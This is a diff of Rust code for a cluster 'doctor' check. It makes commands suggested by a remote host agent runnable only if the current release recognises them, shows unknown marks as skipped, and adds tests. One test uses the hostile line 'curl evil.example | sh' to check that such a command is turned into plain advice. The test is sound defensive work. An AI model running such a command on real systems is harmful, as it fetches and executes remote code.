@@ -9,6 +9,7 @@ use tokio::runtime::Handle;
 
 use super::{
     Doctor, command,
+    known::is_known,
     shown::{Check, Checks},
 };
 use crate::{asking, cluster::Cluster, reference};
@@ -27,24 +28,40 @@ pub fn ask(args: &Doctor, host: &str) -> anyhow::Result<Checks> {
         let Response::ExamineHost(it) = answer else {
             bail!("the control plane answered another question");
         };
-        Ok(Checks(it.checks.unwrap_or_default().into_iter().filter_map(check).collect()))
+        let checks: Vec<Check> = it.checks.into_iter().flatten().map(check).collect();
+        if checks.is_empty() {
+            bail!("the agent of {host} has looked, and has told nothing of what it found");
+        }
+        Ok(Checks(checks))
     })
 }
 
-/// A mark that an older release does not know is none.
-fn check(it: HostCheck) -> Option<Check> {
+/// What a host says may be of a release that knows more, and the host may be anybody's by now: a
+/// command is one only if this release would name it, too.
+fn check(it: HostCheck) -> Check {
     let marks = [Mark::Good, Mark::Warning, Mark::Broken, Mark::Skipped];
-    let mark = marks.into_iter().find(|mark| Some(mark.word()) == it.mark.as_deref())?;
-    Some(Check {
-        row: u8::try_from(it.row.unwrap_or_default()).ok()?,
-        name: it.name?,
+    let said = it.mark.unwrap_or_default();
+    let text = it.text.unwrap_or_default();
+    let (mark, text) = match marks.into_iter().find(|mark| mark.word() == said) {
+        Some(mark) => (mark, text),
+        None => (Mark::Skipped, format!("the mark '{said}' is not known here: {text}")),
+    };
+    let row = it.row.and_then(|it| u8::try_from(it).ok()).unwrap_or_default();
+    let (command, advice) = match it.command {
+        Some(it) if is_known(row, &it) => (Some(it), None),
+        Some(it) => (None, Some(format!("the host says: {it}"))),
+        None => (None, it.advice),
+    };
+    Check {
+        row,
+        name: it.name.unwrap_or_default(),
         mark,
-        text: it.text.unwrap_or_default(),
-        command: it.command,
-        advice: it.advice,
+        text,
+        command,
+        advice,
         // From here nothing is.
         can_be_fixed: false,
-    })
+    }
 }
 
 /// Looks at the host of an agent of this process.
@@ -118,12 +135,41 @@ mod tests {
             can_be_fixed: Some(true),
             ..HostCheck::default()
         };
-        let shown = check(said("broken")).expect("it is known");
+        let shown = check(said("broken"));
         assert_eq!((shown.row, shown.mark, shown.can_be_fixed), (6, Mark::Broken, false));
         assert_eq!(shown.advice.as_deref(), Some("make room"));
-        assert_eq!(check(said("odd")), None);
         let checks = Checks(vec![shown]);
         assert_eq!((checks.count(Mark::Broken), checks.count(Mark::Good)), (1, 0));
         assert!(checks.json().ends_with(r#""good":0,"warnings":0,"broken":1}"#));
+    }
+
+    #[test]
+    fn what_this_release_does_not_know_is_shown_for_what_it_is() {
+        let said = HostCheck {
+            row: Some(300),
+            name: Some("quantum".to_owned()),
+            mark: Some("entangled".to_owned()),
+            text: Some("both".to_owned()),
+            ..HostCheck::default()
+        };
+        let shown = check(said);
+        assert_eq!((shown.row, shown.name.as_str(), shown.mark), (0, "quantum", Mark::Skipped));
+        assert_eq!(shown.text, "the mark 'entangled' is not known here: both");
+    }
+
+    #[test]
+    fn a_command_of_a_host_is_one_only_if_it_is_known_here() {
+        let said = |command: &str| HostCheck {
+            row: Some(16),
+            mark: Some("broken".to_owned()),
+            command: Some(command.to_owned()),
+            ..HostCheck::default()
+        };
+        let known = "sysctl -w net.ipv4.ip_forward=1";
+        let shown = check(said(known));
+        assert_eq!((shown.command.as_deref(), shown.advice), (Some(known), None));
+        let shown = check(said("curl evil.example | sh"));
+        assert_eq!(shown.command, None);
+        assert_eq!(shown.advice.as_deref(), Some("the host says: curl evil.example | sh"));
     }
 }
